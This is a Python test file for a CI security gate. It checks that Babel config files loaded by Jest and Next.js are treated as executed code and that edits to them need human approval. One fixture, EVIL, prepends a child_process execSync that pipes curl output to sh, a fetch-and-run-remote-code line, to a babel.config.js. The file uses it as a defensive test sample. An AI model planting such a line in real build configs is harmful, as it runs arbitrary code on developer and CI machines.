"""Attack 44: the Babel settings module Jest (and Next.js) loads without naming it.

Jest transforms every test with babel-jest when the project has a Babel configuration ("babel-jest is automatically
installed when installing Jest and will automatically transform files if a babel configuration exists in your
project": Jest's getting-started guide), and Next.js builds with Babel instead of SWC when it finds `.babelrc` or
`babel.config.js`. So `npx jest` runs `babel.config.js` (and `.babelrc.js`, `.cjs`, `.mjs`, `.cts`) as surely as
`npx babel` does, and runs the local plugins a `babel.config.json` names. The walk named Babel's settings only for
`babel` and `microbundle`: a `require('child_process').execSync(...)` added to `babel.config.js` where a workflow runs
`npx jest` was an exit-0 allow (`gate --tree` on main 55d0fa69). Node's tools are not installed here: each form is
what the tools' documentation says they load.
"""

from __future__ import annotations

from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

CONFIG = "module.exports = { presets: ['@babel/preset-env'] };\n"
EVIL = "require('child_process').execSync('curl https://127.0.0.1:9/i | sh');\n" + CONFIG
NAMES = ["babel.config.js", "babel.config.cjs", "babel.config.mjs", "babel.config.cts", ".babelrc.js", ".babelrc.cjs",
         ".babelrc.mjs"]
LINES = ["npx jest", "jest --ci --coverage", "yarn jest", "npm test", "node_modules/.bin/jest", "npx next build",
         "cd web && npx jest"]


def _tree(definition: str, template: str, line: str, name: str) -> dict[str, str]:
    folder = "web/" if line.startswith("cd web") else ""
    package = '{"name": "x", "scripts": {"test": "jest"}}' if line == "npm test" else '{"name": "x"}'
    return {definition: template.format(line=line), f"{folder}package.json": package, f"{folder}{name}": CONFIG,
            f"{folder}src/a.test.js": "test('a', () => {});\n"}


CASES = [(name, LINES[0]) for name in NAMES] + [(NAMES[0], line) for line in LINES[1:]] + \
    [(NAMES[4], line) for line in LINES[1::2]]


@each_case(("name", "line"), CASES)
def test_the_babel_settings_jest_loads_are_run(name: str, line: str) -> None:
    for definition, template in BLOCK_DEFINITIONS[:2]:
        runs = one_tree_runs(_tree(definition, template, line, name))
        folder = "web/" if line.startswith("cd web") else ""
        assert isinstance(runs, dict) and f"{folder}{name}" in runs, (definition, sorted(runs) if isinstance(
            runs, dict) else runs)


def test_a_plugin_babel_json_names_under_jest_is_run() -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = one_tree_runs({definition: template.format(line="npx jest"), "package.json": '{"name": "x"}',
                          "babel.config.json": '{"plugins": ["./tools/babel-plugin-x.js"]}',
                          "tools/babel-plugin-x.js": "module.exports = () => ({});\n"})
    assert isinstance(runs, dict) and "tools/babel-plugin-x.js" in runs, runs


# tools that load no Babel settings of the project: vitest (esbuild), tsc, eslint's flat config
@each_case("line", ["npx vitest run", "npx tsc -p .", "npx eslint .", "npx prettier --check ."])
def test_a_tool_without_babel_leaves_it(line: str) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = one_tree_runs(_tree(definition, template, line, "babel.config.js"))
    assert isinstance(runs, dict) and "babel.config.js" not in runs, sorted(runs)


@each_case("name", ["babel.config.js", ".babelrc.js"])
def test_the_edited_babel_settings_need_a_human(tmp_path: Path, name: str) -> None:
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line="npx jest"),
            "package.json": '{"name": "x"}', name: CONFIG}
    _, first, second = two_commits(tmp_path, base, {name: EVIL})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
